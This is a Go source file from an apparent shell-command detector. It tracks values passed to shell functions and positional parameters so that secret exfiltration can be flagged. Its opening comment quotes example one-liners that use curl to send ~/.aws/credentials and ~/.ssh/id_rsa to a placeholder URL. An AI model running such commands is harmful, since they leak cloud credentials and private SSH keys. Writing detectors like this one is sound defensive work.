package patterns

import (
	"strconv"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Positional parameters hold what the line gives them (rt21d #1): `send()
// { curl -d "$1" URL; }; send "$(cat ~/.aws/credentials)"`, `up() { curl
// -F "f=@$1" URL; }; up ~/.ssh/id_rsa`, `set -- ~/.ssh/id_rsa; curl -F
// "f=@$1" URL`. A call of a function the line defines, and `set --`, are
// read as assignments of $1 … $9, $@ and $*: each argument is a value of
// its own position and of $@ and $*. Where the line shifts (`shift`
// anywhere in it), an argument may come to stand at any position before
// its own, and is a value of each. The values then count as any
// assignment's do ([secret-value] through class_secretvar.go, a secrets
// file's name through class_secret_linevar.go, `local x=$1` as a copy).
// Calls are not told apart: a value given to one function is a value of
// the positions every function of the line reads, which may ask where
// only another function sends, never the reverse.

// positionalCap bounds the positions bound by name ($1 … $9).
const positionalCap = 9

// positional reports whether name is a positional parameter, or $@ or $*.
func positional(name string) bool {
	if name == "@" || name == "*" {
		return true
	}
	n, err := strconv.Atoi(name)
	return err == nil && n >= 1 && n <= positionalCap && strconv.Itoa(n) == name
}

// noteFunc records a function the line defines.
func (r *reading) noteFunc(f *syntax.FuncDecl) {
	if f.Name == nil {
		return
	}
	if r.funcs == nil {
		r.funcs = map[string]bool{}
	}
	r.funcs[f.Name.Value] = true
}

// notePositional binds the positional parameters to a call's arguments
// when the call is of a function the line defines or is `set --` (or set
// with an operand that is not an option).
func (r *reading) notePositional(ce *syntax.CallExpr, sc scope) {
	if len(ce.Args) < 2 {
		return
	}
	name := ce.Args[0].Lit()
	args := ce.Args[1:]
	switch {
	case r.funcs[name]:
	case name == "set":
		lead := args[0].Lit()
		if lead == "--" || lead == "-" {
			args = args[1:]
		} else if strings.HasPrefix(lead, "-") || strings.HasPrefix(lead, "+") {
			return // set -e, set -o x: options, which leave the positions alone
		}
	default:
		return
	}
	shifts := strings.Contains(r.cmd.Source, "shift")
	for i, w := range args {
		first := i + 1
		if shifts {
			first = 1
		}
		for n := first; n <= min(i+1, positionalCap); n++ {
			r.bindValue(strconv.Itoa(n), w, sc)
		}
		r.bindValue("@", w, sc)
		r.bindValue("*", w, sc)
	}
}

// bindValue records w as a value the line gives variable name, as an
// assignment's value is recorded (noteAssign, noteAssignValue).
func (r *reading) bindValue(name string, w *syntax.Word, sc scope) {
	if f := r.vars[name]; f != nil && len(f.spans) >= assignCap {
		return
	}
	k, t := wordKind(w)
	r.assign(name, k, t)
	f := r.vars[name]
	f.spans = append(f.spans, sc.span(w))
	f.reads = paramReads(w.Parts, f.reads)
	f.words = append(f.words, sc.conv().word(w))
	f.noteValueAt(sc.span(w).Start)
}
